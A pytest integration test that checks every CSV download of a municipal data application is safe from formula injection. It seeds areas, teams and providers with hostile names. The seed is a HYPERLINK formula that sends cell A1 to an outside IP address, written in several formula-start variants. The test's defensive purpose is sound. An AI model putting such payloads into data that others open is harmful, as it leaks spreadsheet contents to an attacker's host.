"""Every CSV file of the product, of a city whose names are formulas: no cell is one."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from api.actions.compute_figures import compute_figures
from api.actions.import_directory import import_directory
from api.actions.import_neighbourhoods import import_neighbourhood_frame
from api.actions.import_register import import_register
from api.actions.import_residents import import_resident_rows
from api.app import create_app
from api.settings import Settings
from graph_schema.model.city import City
from graph_schema.store.city import save_city
from graph_schema.store.graph import Graph
from graph_schema.store.imports import load_import_runs
from tests.integration.administrator import administrator_cookie
from tests.integration.desk import desk_at
from tests.integration.small_register import (
    DIRECTORY_ROWS,
    LEVEL,
    NOW,
    REGISTER_ROWS,
    copied,
    three_areas,
    write_folder,
)

pytestmark = pytest.mark.parametrize("graph_address", ["embedded"], indirect=True, scope="session")

STARTS = "=+-@＝＋－＠\t\r\n"
LINK = '{}HYPERLINK("http://192.0.2.1/"&A1)'
ADMINISTRATORS = {"/daten/import/{job:str}/abgewiesen.csv"}
"""Of which `test_import_page` asks the same."""
BY_RUN = "/daten/{name:str}"
TABLES = {"/karte.csv", "/betreuung.csv", "/plaetze.csv", "/plan.csv", "/daten/quellen.csv", "/daten/importe.csv"}


async def hostile_city(graph: Graph, folder: Path) -> None:
    """Areas, level, city, office, teams, providers and programmes whose names a spreadsheet would calculate."""
    await save_city(graph, City(LINK.format("="), LINK.format("@")))
    frame = three_areas()
    frame["name"] = [LINK.format(sign) for sign in "=＋-"]
    names = {name: LINK.format("+") for name in ("name_de", "singular_de", "name_en", "singular_en", "source")}
    await import_neighbourhood_frame(graph, frame, level=replace(LEVEL, **names), data_folder=folder, now=NOW)
    residents = [
        {"area_key": key, "reference_date": date(2021, 12, 31), "group": "all", "count": 1_000} for key in ("1", "2")
    ]
    await import_resident_rows(graph, LEVEL.code, residents, data_folder=folder, now=NOW)
    directory = copied(DIRECTORY_ROWS)
    for rows in directory.values():
        for number, row in enumerate(rows):
            row["name"] = LINK.format("=+-@＝"[number % 5]) + str(number)
    await import_directory(graph, write_folder(folder / "d", directory), data_folder=folder, now=NOW)
    register = copied(REGISTER_ROWS)
    register["caseworkers"] = [
        {**register["caseworkers"][0], "caseworker_number": f"w{number}", "full_time_share": "1", "office": "",
         "team": LINK.format("=")} for number in range(1, 7)
    ]  # fmt: skip
    await import_register(graph, write_folder(folder / "r", register), data_folder=folder, now=NOW)
    await compute_figures(graph, Settings(folder), now=NOW)


async def test_no_cell_of_any_download_is_a_formula(graph: Graph, tmp_path: Path) -> None:
    """The addresses are those that the application has: a new file is asked, too."""
    await hostile_city(graph, tmp_path)
    app: Any = create_app(Settings(tmp_path), graph)
    paths = {route.path for route in app.routes if route.path.endswith(".csv")} - ADMINISTRATORS
    assert paths == TABLES
    run = (await load_import_runs(graph, 1))[0]["id"]
    seen: dict[str, int] = {}
    async with desk_at(app) as desk:
        desk.client.cookies.update(await administrator_cookie(graph, tmp_path))
        for path in (*sorted(paths), f"/daten/{run}.csv"):
            for language in ("de", "en"):
                answer = await desk.open(f"{path}?lang={language}")
                assert answer.status_code == 200, path
                assert answer.headers["content-type"].startswith("text/csv")
                table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=";"))
                cells = [cell for row in table for cell in row]
                assert not [
                    cell for cell in cells if cell.strip("\ufeff \x00")[:1] in tuple(STARTS) and not number(cell)
                ]
                seen[path] = seen.get(path, 0) + sum("HYPERLINK" in cell for cell in cells)
    for path in ("/karte.csv", "/plaetze.csv"):
        assert seen[path], path  # names of the city did come: guarded


def begins(cell: str) -> bool:
    """Tell whether a cell begins as a formula, behind what nobody sees."""
    return cell.lstrip("\ufeff \x00")[:1] in tuple(STARTS)


def number(cell: str) -> bool:
    """Tell whether a cell is a number, or a sign that stands alone."""
    text = cell.replace(".", "").replace(",", "").lstrip("-+")
    return text.isdecimal() or not text
